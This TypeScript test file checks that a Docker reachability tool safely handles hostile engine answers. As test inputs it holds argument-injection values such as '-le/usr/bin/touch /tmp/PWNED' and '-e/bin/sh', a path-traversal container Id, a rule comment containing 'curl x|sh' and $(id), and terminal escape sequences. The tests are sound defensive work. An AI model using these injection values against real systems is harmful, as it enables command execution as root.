/**
 * Issue 16, command execution as root: engine values checked by type before they reach argv or a
 * path (on the recorded fixture, rewritten as a hostile engine would answer), `--` before the
 * addresses, container files read as the container resolves them (absolute symlinks re-rooted,
 * FIFOs and devices refused, a cap), output caps, tools by absolute path, loopback listeners'
 * owners, printed commands shell-quoted (checked by /bin/sh) and engine strings without controls.
 */
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, test } from 'node:test';
import { parseCommandLine, UsageError } from '../../src/cli/arguments';
import { reportJson, reportText } from '../../src/cli/reach';
import { readContainerFile } from '../../src/engine/reachability/containerFiles';
import { observe } from '../../src/engine/reachability/observe';
import { NamespaceRunner, runFile } from '../../src/engine/reachability/runners';
import { EngineValueError, isEngineId, isInterfaceName, isIpAddress, isSafePid, reachNameIssue } from '../../src/model/engineValues';
import { bridgeDeviceName, buildInventory } from '../../src/model/inventory';
import { loopbackPortOwnedBy, parseTcpListeners } from '../../src/model/procNetTcp';
import { concludeReach } from '../../src/model/reachability/conclude';
import { checkEngineAnswers } from '../../src/model/reachability/engineAnswers';
import { explainReach } from '../../src/model/reachability/explain';
import { deleteCommand, parseIptablesSave, ruleWords } from '../../src/model/reachability/packetFilter';
import { reachPath } from '../../src/model/reachability/path';
import { findContainer } from '../../src/model/reachability/sides';
import type { FilterRule, ReachSide } from '../../src/model/reachability/types';
import { systemTool } from '../../src/probe/systemTools';
import { loadFixture, RecordedFixture, snapshotOf } from '../support/fixtures';

const HOSTILE_ADDRESS = '-le/usr/bin/touch /tmp/PWNED';

/** The recorded fixture, with rch-b's address on rch-user answered as a hostile engine would. */
function hostileFixture(rewrite: (fixture: RecordedFixture) => void): RecordedFixture {
  const fixture = structuredClone(loadFixture('engine-1.41', 'reachability.json'));
  rewrite(fixture);
  return fixture;
}

function explainOn(fixture: RecordedFixture, from: string, to: string) {
  const inventory = buildInventory(snapshotOf(fixture));
  const side = (ref: string): ReachSide => {
    const container = findContainer(inventory, ref)!;
    return { kind: 'container', id: container.id, name: container.name };
  };
  const explanation = explainReach({ inventory, inspectionOf: (id) => fixture.containerDetails[id], question: { from: side(from), to: side(to) } });
  return { inventory, explanation };
}

describe('engine values are checked by type', () => {
  test('addresses: plain IPv4/IPv6 only, never an option, a prefix, a zone or spaces', () => {
    for (const good of ['172.18.0.2', 'fd00:1::2', '::ffff:10.0.0.1', '::1']) {
      assert.equal(isIpAddress(good), true, good);
    }
    for (const bad of [HOSTILE_ADDRESS, '-le', '10.0.0.1/24', 'fe80::1%eth0', ' 10.0.0.1', '10.0.0.256', '', 12, undefined, '10.0.0.1 -e sh']) {
      assert.equal(isIpAddress(bad), false, String(bad));
    }
  });

  test('process ids: a safe integer from 2 to PID_MAX_LIMIT, never a path or -1', () => {
    assert.equal(isSafePid(4242), true);
    for (const bad of ['1/../../self', '4242', -1, 0, 1, 1.5, 2 ** 53, 4_194_305, null]) {
      assert.equal(isSafePid(bad), false, String(bad));
    }
  });

  test('ids and interface names: 64 hex digits; what the kernel accepts as a device name', () => {
    assert.equal(isEngineId('a'.repeat(64)), true);
    assert.equal(isEngineId('../../containers/x'), false);
    assert.equal(isInterfaceName('br-0123456789ab'), true);
    for (const bad of ['../../etc', 'a/b', '..', '.', 'sixteen-chars-xx', 'a b', 'a:b', '']) {
      assert.equal(isInterfaceName(bad), false, bad);
    }
  });

  test('a bridge name option the kernel would refuse is not used as a device name (no sysfs path from it)', () => {
    const network = loadFixture('engine-1.41', 'reachability.json').networks.find((candidate) => candidate.Driver === 'bridge' && candidate.Name !== 'bridge')!;
    const hostile = { ...network, Options: { ...network.Options, 'com.docker.network.bridge.name': '../../../etc' } };
    assert.equal(bridgeDeviceName(hostile), undefined);
    assert.equal(bridgeDeviceName({ ...network, Options: { ...network.Options, 'com.docker.network.bridge.name': 'dne-br0' } }), 'dne-br0');
  });

  test('names to resolve: a container name or alias, never a leading "-" (CLI and the same rule in the extension)', () => {
    assert.equal(reachNameIssue('rch-bee'), undefined);
    assert.equal(reachNameIssue('web.example_1'), undefined);
    assert.equal(reachNameIssue('-type=any'), 'leadingDash');
    assert.equal(reachNameIssue('a b'), 'invalid');
    assert.throws(() => parseCommandLine(['reach', 'a', 'b', '--name=-type=any']), UsageError);
    assert.throws(() => parseCommandLine(['reach', 'a', 'b', '--name', '-debug']), UsageError);
  });

  test('the doctor refuses a hostile endpoint address and names the field (recorded fixture, rewritten)', () => {
    const fixture = hostileFixture((f) => {
      const b = f.containers.find((c) => c.Names?.[0] === '/rch-b')!;
      b.NetworkSettings!.Networks!['rch-user'].IPAddress = HOSTILE_ADDRESS;
    });
    const { inventory, explanation } = explainOn(fixture, 'rch-a', 'rch-b');
    assert.throws(
      () => checkEngineAnswers(inventory, explanation),
      (error: unknown) => error instanceof EngineValueError && error.field === 'NetworkSettings.Networks.rch-user.IPAddress of container rch-b' && error.value === HOSTILE_ADDRESS,
    );
    const clean = explainOn(loadFixture('engine-1.41', 'reachability.json'), 'rch-a', 'rch-b');
    assert.doesNotThrow(() => checkEngineAnswers(clean.inventory, clean.explanation));
  });

  test('a hostile Gateway (the host as target) and a hostile Id are named too', () => {
    const gateway = hostileFixture((f) => {
      const a = f.containers.find((c) => c.Names?.[0] === '/rch-a')!;
      a.NetworkSettings!.Networks!['rch-user'].Gateway = '-e/bin/sh';
    });
    const { inventory, explanation } = explainOn(gateway, 'rch-a', 'rch-b');
    assert.throws(() => checkEngineAnswers(inventory, explanation), /NetworkSettings\.Networks\.rch-user\.Gateway of container rch-a/);
    const id = hostileFixture((f) => {
      const b = f.containers.find((c) => c.Names?.[0] === '/rch-b')!;
      b.Id = '../../../v1.41/containers/rch-a/kill?x=';
    });
    const hostileId = explainOn(id, 'rch-a', 'rch-b');
    assert.throws(() => checkEngineAnswers(hostileId.inventory, hostileId.explanation), /Id of container rch-b/);
  });
});

/** A runner that records what would run, and answers like a tool that found nothing. */
function recordingRunner(): NamespaceRunner & { argv: string[][] } {
  const argv: string[][] = [];
  return {
    argv,
    method: 'nsenter',
    tools: ['nsenter', 'busybox'],
    run: (applet, args) => {
      argv.push([applet, ...args]);
      return Promise.resolve({ code: 1, output: '' });
    },
    readFile: () => Promise.resolve(undefined),
  };
}

describe('the observation builds its argv safely', () => {
  test('ping and nc get the address after "--"', async () => {
    const { explanation } = explainOn(loadFixture('engine-1.41', 'reachability.json'), 'rch-a', 'rch-b');
    const runner = recordingRunner();
    await observe(runner, explanation, { readFilter: false });
    assert.ok(runner.argv.length > 0);
    for (const argv of runner.argv) {
      assert.equal(argv[argv.length - 2], '--', argv.join(' '));
    }
    const tcp = recordingRunner();
    await observe(tcp, { ...explanation, question: { ...explanation.question, port: 80 } }, { readFilter: false });
    assert.deepEqual(tcp.argv[0].slice(0, 4), ['nc', '-w', '2', '--']);
  });

  test('an address that is not one never reaches a tool, even past checkReach', async () => {
    const { explanation } = explainOn(loadFixture('engine-1.41', 'reachability.json'), 'rch-a', 'rch-b');
    const hostile = { ...explanation, targets: [{ address: HOSTILE_ADDRESS, expected: 'pass' as const }] };
    const runner = recordingRunner();
    await assert.rejects(observe(runner, hostile, { readFilter: false }), EngineValueError);
    assert.deepEqual(runner.argv, []);
  });
});

describe('container files are read as the container resolves them', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'dne-rootexec-files-'));
  const root = path.join(dir, 'root');
  const hostMarker = path.join(dir, 'host-secret');
  after(() => rmSync(dir, { recursive: true, force: true }));
  mkdirSync(path.join(root, 'etc'), { recursive: true });
  mkdirSync(path.join(root, dir), { recursive: true });
  writeFileSync(hostMarker, 'HOST SECRET\n');
  writeFileSync(path.join(root, 'etc', 'plain'), '10.0.0.2 plain\n');
  // An absolute link to the host file's path: inside the container that path holds another file.
  symlinkSync(hostMarker, path.join(root, 'etc', 'hosts'));
  writeFileSync(path.join(root, hostMarker), 'CONTAINER FILE\n');
  symlinkSync(`../../../../../../../..${hostMarker}`, path.join(root, 'etc', 'climbing'));
  symlinkSync('/dev/zero', path.join(root, 'etc', 'zero'));
  symlinkSync('/etc/loop', path.join(root, 'etc', 'loop'));
  symlinkSync(dir, path.join(root, 'etc', 'dirlink'));
  execFileSync('mkfifo', [path.join(root, 'etc', 'fifo')]);
  writeFileSync(path.join(root, 'etc', 'big'), 'x'.repeat(200 * 1024));

  test('a regular file is read', async () => {
    assert.equal(await readContainerFile(root, '/etc/plain'), '10.0.0.2 plain\n');
  });

  test('an absolute symlink resolves inside the container root, never on the host', async () => {
    assert.equal(await readContainerFile(root, '/etc/hosts'), 'CONTAINER FILE\n');
    assert.equal(await readContainerFile(root, '/etc/climbing'), 'CONTAINER FILE\n');
    assert.equal(await readContainerFile(root, '/etc/dirlink/host-secret'), 'CONTAINER FILE\n');
  });

  test('a FIFO, a device and a symlink loop are refused at once (nothing waits, nothing exhausts memory)', async () => {
    const started = Date.now();
    assert.equal(await readContainerFile(root, '/etc/fifo'), undefined);
    assert.equal(await readContainerFile(root, '/etc/zero'), undefined);
    assert.equal(await readContainerFile(root, '/etc/loop'), undefined);
    assert.ok(Date.now() - started < 2_000);
  });

  test('at most 64 KiB are read', async () => {
    assert.equal((await readContainerFile(root, '/etc/big'))?.length, 64 * 1024);
  });
});

describe('tools run as root: absolute paths, capped output', () => {
  test('system tools are found in the system folders, never through PATH', async () => {
    const fake = mkdtempSync(path.join(os.tmpdir(), 'dne-rootexec-path-'));
    const saved = process.env.PATH;
    try {
      writeFileSync(path.join(fake, 'busybox'), '#!/bin/sh\ntouch /tmp/dne-rootexec-fake-ran\n', { mode: 0o755 });
      process.env.PATH = `${fake}:.:${saved ?? ''}`;
      const found = await systemTool('busybox');
      assert.ok(found && ['/usr/sbin/', '/usr/bin/', '/sbin/', '/bin/'].some((dir) => found.startsWith(dir)), found);
      assert.equal(await systemTool('../tmp/busybox'), undefined);
    } finally {
      process.env.PATH = saved;
      rmSync(fake, { recursive: true, force: true });
    }
  });

  test('a tool that prints without end is stopped at the cap', async () => {
    const busybox = await systemTool('busybox');
    assert.ok(busybox, 'busybox is installed');
    const started = Date.now();
    const result = await runFile(busybox, ['yes'], 20_000, 64 * 1024);
    assert.equal(result.truncated, true);
    assert.equal(result.code, null);
    assert.ok(result.output.length <= 64 * 1024);
    assert.ok(Date.now() - started < 10_000);
  });
});

describe('loopback listeners and their owners (/proc/net/tcp)', () => {
  // Lines as this kernel writes them (read from /proc/net/tcp and /proc/net/tcp6).
  const tcp = [
    '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode',
    '   0: 0100007F:093D 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 77061 1 00000000b9d7af85 100 0 0 10 0',
    '   1: 00000000:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 1185 1 000000004f388cfd 100 0 0 10 0',
    '   2: 0100007F:093D 0100007F:D2C4 01 00000000:00000000 00:00000000 00000000  1000        0 1186 1 000000004f388cfd 100 0 0 10 0',
  ].join('\n');
  const tcp6 = [
    '  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode',
    '   0: 00000000000000000000000001000000:0CEA 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 2 1 0 100 0 0 10 0',
  ].join('\n');

  test('listening sockets with their port, owner and whether loopback reaches them', () => {
    assert.deepEqual(
      parseTcpListeners(tcp).map((listener) => [listener.port, listener.uid, listener.loopbackOrAny]),
      [
        [2365, 0, true],
        [3306, 1000, true],
      ],
    );
  });

  test('a port is trusted when every listener is root\'s or ours, and someone listens', () => {
    assert.equal(loopbackPortOwnedBy([tcp, tcp6], 2365, 0), true);
    assert.equal(loopbackPortOwnedBy([tcp, tcp6], 3306, 0), false, 'another user listens on 0.0.0.0:3306');
    assert.equal(loopbackPortOwnedBy([tcp, tcp6], 3306, 1000), true);
    assert.equal(loopbackPortOwnedBy([tcp, tcp6], 2375, 0), false, 'nobody listens');
  });
});

describe('printed commands and engine strings', () => {
  // The line iptables-save (v1.8.9) printed for a rule whose comment is `block; curl x|sh # "q" \back $(id) `id``.
  const saved = '-A DOCKER-USER -s 192.168.0.2/32 -m comment --comment "block; curl x|sh # \\"q\\" \\\\back $(id) `id`" -j DROP';
  const comment = 'block; curl x|sh # "q" \\back $(id) `id`';

  test('iptables-save\'s quoting is read back word for word; a comment does not change the target', () => {
    assert.deepEqual(ruleWords(saved), ['-A', 'DOCKER-USER', '-s', '192.168.0.2/32', '-m', 'comment', '--comment', comment, '-j', 'DROP']);
    const [rule] = parseIptablesSave(`*filter\n[3:252] ${saved.replace('-j DROP', '-j ACCEPT').replace('block;', 'block -j DROP -i docker0;')}\n`);
    assert.equal(rule.target, 'ACCEPT');
    assert.deepEqual(rule.interfaces, []);
  });

  test('the CLI prints the fix as a command /bin/sh reads back as its argv (the comment is never run)', () => {
    const fixture = loadFixture('engine-1.41', 'reachability.json');
    const { inventory, explanation } = explainOn(fixture, 'rch-a', 'rch-b');
    const drop: FilterRule = { table: 'filter', chain: 'DOCKER-USER', rule: saved, target: 'DROP', packets: 2 };
    const report = concludeReach(explanation, { observation: { method: 'nsenter' }, probes: [{ kind: 'icmp', address: explanation.targets[0].address, outcome: 'fail' }], drops: [drop] }, (final, d) =>
      reachPath({ inventory, explanation, final, drop: d }),
    );
    const line = reportText(report)
      .split('\n')
      .find((candidate) => candidate.startsWith('    $ iptables'));
    assert.ok(line, reportText(report));
    const argv = execFileSync('/bin/sh', ['-c', `printf '%s\\0' ${line.slice('    $ '.length)}`], { encoding: 'utf8' }).split('\0').slice(0, -1);
    assert.deepEqual(argv, deleteCommand(drop));
    assert.deepEqual(JSON.parse(reportJson(report)).blockers.find((b: { rule: string }) => b.rule === 'filterDrop').fix.command, deleteCommand(drop), 'JSON keeps the argv array');
  });

  test('engine strings reach the terminal without escape sequences or lines of their own', () => {
    const fixture = hostileFixture((f) => {
      const b = f.containers.find((c) => c.Names?.[0] === '/rch-b')!;
      b.Names = ['/rch-b\u001b[2J\u001b]0;owned\u0007\nFAKE LINE'];
    });
    const { inventory, explanation } = explainOn(fixture, 'rch-a', '94023e782ce7');
    const report = concludeReach(explanation, { observation: { method: 'none', reason: 'notRequested' }, probes: [] }, (final) => reachPath({ inventory, explanation, final }));
    const text = reportText(report);
    assert.doesNotMatch(text, /[\u001b\u0007]/);
    assert.doesNotMatch(text, /^FAKE LINE/m);
    assert.doesNotMatch(reportJson(report), /[\u001b\u2028]/);
  });
});
